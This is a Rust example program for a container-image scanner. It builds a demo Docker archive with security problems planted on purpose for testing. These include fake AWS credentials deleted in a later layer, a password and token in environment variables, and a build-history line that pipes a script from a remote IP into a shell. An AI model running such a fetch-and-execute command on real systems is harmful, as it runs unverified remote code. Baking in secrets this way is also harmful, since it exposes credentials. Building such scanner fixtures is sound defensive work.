//! Writes a small demo image with problems planted in it, as a `docker save` tarball, so
//! `canary scan` can be tried offline:
//!
//! ```sh
//! cargo run --example demo-image -- /tmp/demo.tar
//! cargo run --release -- scan docker-archive:/tmp/demo.tar
//! ```
//!
//! With `--size-mb N` it adds N MiB of filler files spread over several layers (for
//! memory and throughput measurements on big images).

use canary_analyzer::fixtures::{Compression, ImageBuilder, LayerBuilder, MediaTypes};

fn main() -> std::io::Result<()> {
    let mut args = std::env::args().skip(1);
    let mut out = None;
    let mut size_mb = 0usize;
    while let Some(a) = args.next() {
        if a == "--size-mb" {
            size_mb = args
                .next()
                .and_then(|v| v.parse().ok())
                .expect("--size-mb takes a number");
        } else {
            out = Some(a);
        }
    }
    let out = out.expect("usage: demo-image [--size-mb N] OUT.tar");
    let base = LayerBuilder::new()
        .dir("etc")
        .file("etc/os-release", "ID=demo\nVERSION_ID=1\n")
        .file("root/.aws/credentials", "[default]\naws_access_key_id = AKIAZ7QWERTYUIOPASDF\naws_secret_access_key = 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\n")
        .file_mode("usr/local/bin/start.sh", "#!/bin/sh\nexec /app/server\n", 0o755)
        .build(Compression::Gzip);
    let cleanup = LayerBuilder::new()
        .whiteout("root/.aws")
        .file("app/server", "demo server")
        .build(Compression::Gzip);
    let mut img = ImageBuilder::new()
        .media_types(MediaTypes::Docker)
        .layer(base)
        .layer(cleanup)
        .env("PATH=/usr/local/bin:/usr/bin:/bin")
        .env("DATABASE_URL=postgres://app:s3cr3t-pass@db.internal:5432/app")
        .env("API_TOKEN=tok_4f8a9c2e7b1d")
        .cmd(&["/usr/local/bin/start.sh"])
        .history("/bin/sh -c #(nop) ADD file:4f2a in / ", false)
        .history(
            "/bin/sh -c curl -fsSL http://198.51.100.23/install.sh | sh",
            false,
        )
        .history("/bin/sh -c rm -rf /root/.aws", false);
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut left = size_mb << 20;
    let mut n = 0;
    while left > 0 {
        let mut l = LayerBuilder::new();
        let mut in_layer = 0usize;
        while in_layer < (256 << 20) && left > 0 {
            let size = (1 << 20).min(left);
            let mut content = Vec::with_capacity(size);
            while content.len() < size {
                content.extend_from_slice(
                    format!("{n} {seed:x} filler line of a big demo image\n").as_bytes(),
                );
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
            }
            content.truncate(size);
            l = l.file(&format!("usr/share/filler/{}/f{n}", n % 50), content);
            n += 1;
            in_layer += size;
            left -= size;
        }
        img = img.layer(l.build(Compression::Gzip));
    }
    img.build()
        .write_docker_archive(std::path::Path::new(&out), "demo/app:latest", false)?;
    eprintln!("wrote {out}");
    Ok(())
}
